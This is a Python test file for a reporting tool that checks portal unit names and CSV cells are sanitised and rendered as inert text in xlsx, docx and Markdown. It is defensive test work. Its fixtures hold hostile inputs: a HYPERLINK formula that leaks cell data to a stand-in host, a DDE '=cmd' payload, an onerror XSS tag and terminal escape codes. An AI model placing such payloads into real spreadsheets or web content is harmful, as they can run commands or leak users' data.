"""Text from outside is data everywhere (issue 28): portal names and CSV cells never become a formula,
markup or a crash.

* The contract removes control characters from names (``dvc766.text``: a NUL is valid JSON, invalid
  XML); the raw body keeps them.
* A warehouse published before that rule (names with a NUL, an escape, ``=HYPERLINK(…)``, ``@SUM``,
  ``-2+3``) still renders: every writer applies the rule again, the xlsx stores formula-like text as
  text (never a ``<f>`` element, with Excel's quote prefix), and the md escapes markup.
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import docx
import duckdb
import openpyxl
import pytest

from dvc766.cli import main
from dvc766.text import one_line, printable
from flows.normalise import normalise
from tests.test_normalise_legacy import national
from tests.test_normalise_v1 import h44_capture, make_capture
from tests.test_report_reference import build_warehouse, run_rpt_models

TREE = "evaluation/dvc-progress-tree"
HOSTILE = {
    "H55.02": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "H55.03": "Ban\x00 quản lý\x1b[2J <img src=x onerror=alert(1)> *KCN* [link](http://x) |",
    "H55.04": "@SUM(1+1)*cmd|' /C calc'!A0",
    "H55.05": "-2+3",
    "H55.06": "+1 Sở Giáo dục\u202e",
    "H55.07": "\tSở Ngoại vụ\r",
}
CSV_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "UBND xã\x07 Tân Cương",
]


def test_printable_removes_control_characters_and_one_line_shows_them() -> None:
    assert printable("UBND\x00 xã\tTân\nCương\x1b\u202e\x85") == "UBND xã Tân Cương"
    assert printable("Sở Nội vụ") == "Sở Nội vụ"
    assert printable("a\ud800b\ufffe") == "ab"  # a lone surrogate (valid as \\ud800 in JSON) is no text
    assert one_line("H5\n5\x1b[31m") == "H5\\n5\\x1b[31m"


def test_the_v1_contract_lands_names_without_control_characters() -> None:
    doc = json.loads(h44_capture(TREE).body)
    doc["data"]["children"][0]["departmentName"] = "Xã\u0000 Phú\nLộc\u202e"
    doc["data"]["parent"]["departmentName"] = "UBND tỉnh\x1b[2J Phú Thọ"
    body = json.dumps(doc, ensure_ascii=True).encode()  # \u0000 as the portal could send it
    assert b"\\u0000" in body
    tables = normalise(make_capture(body, TREE, "H44", h44_capture(TREE).period))
    names = tables["units_seen"].column("unit_name").to_pylist()
    assert "Xã Phú Lộc" in names and "UBND tỉnh[2J Phú Thọ" in names
    assert not [n for n in names if n != printable(n)]


def test_the_legacy_contract_lands_names_without_control_characters() -> None:
    cap = national("ebd4e73")
    rows = json.loads(cap.body)
    rows[0]["TEN"] = rows[0]["TEN_COQUAN"] = "Tỉnh\u0000 An\tGiang"
    body = json.dumps(rows, ensure_ascii=True).encode()
    tables = normalise(type(cap)(**{**cap.__dict__, "body": body}))
    names = tables["units_seen"].column("unit_name").to_pylist()
    assert "Tỉnh An Giang" in names and not [n for n in names if "\x00" in n]


@pytest.fixture(scope="module")
def hostile_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The reference warehouse with names a portal (or an older dvc766) could have published."""
    data = tmp_path_factory.mktemp("hostile") / "data"
    data.mkdir()
    path = build_warehouse(data / "warehouse.duckdb", with_rpt=False)
    con = duckdb.connect(str(path))
    for code, name in HOSTILE.items():
        con.execute("update dim_unit set unit_name = ? where unit_code = ?", [name, code])
    run_rpt_models(con)
    con.close()
    return data


def _render(data: Path, tmp_path: Path, fmt: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DVC766_DATA_DIR", str(data))
    csv = tmp_path / "cc.csv"
    lines = ["unit_name,deployed_prev,deployed_curr,total,completed_prev,completed_curr"]
    lines += [f'"{n.replace(chr(34), chr(34) * 2)}",1,1,1,{i},{i + 1}' for i, n in enumerate(CSV_NAMES)]
    csv.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / f"appendix.{fmt}"
    argv = ["report", "--province", "H55", "--month", "2023-10", "--format", fmt, "--out", str(out)]
    assert main([*argv, "--office-figures", str(csv)]) == 0
    return out


def test_xlsx_stores_every_formula_like_text_as_text(
    hostile_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = _render(hostile_data, tmp_path, "xlsx", monkeypatch)
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not [s for s in sheets if b"<f>" in s or b"<f " in s]  # no formula anywhere
    wb = openpyxl.load_workbook(out)
    texts = {
        c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    }
    expected = [printable(n).strip() for n in (*HOSTILE.values(), *CSV_NAMES)]  # names print trimmed
    for name in expected:
        cell = texts[name]
        assert cell.data_type == "s", name
        if name.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, name  # editing the cell keeps it text
    assert not [t for t in texts if t != printable(t)]


def test_docx_and_md_render_hostile_names_as_plain_text(
    hostile_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = _render(hostile_data, tmp_path, "docx", monkeypatch)
    document = docx.Document(str(out))
    cells = {c.text for t in document.tables for row in t.rows for c in row.cells}
    assert printable(HOSTILE["H55.03"]) in cells and "UBND xã Tân Cương" in cells
    md = _render(hostile_data, tmp_path, "md", monkeypatch).read_text(encoding="utf-8")
    assert r"\<img src=x onerror=alert(1)\> \*KCN\* \[link\](http://x) \|" in md
    assert not re.search(r"(?<!\\)<img", md) and "\x00" not in md and "\x1b" not in md
    assert '=HYPERLINK("http://evil.example/?x="\\&A1,"click")' in md


def test_a_published_nul_name_no_longer_crashes_any_format(
    hostile_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("DVC766_DATA_DIR", str(hostile_data))
    for fmt in ("xlsx", "docx", "md"):
        out = tmp_path / f"plain.{fmt}"
        argv = ["report", "--province", "H55", "--month", "2023-10", "--format", fmt, "--out", str(out)]
        assert main(argv) == 0, capsys.readouterr().err
        assert out.is_file()
    payload = io.BytesIO((tmp_path / "plain.xlsx").read_bytes())
    assert openpyxl.load_workbook(payload).sheetnames
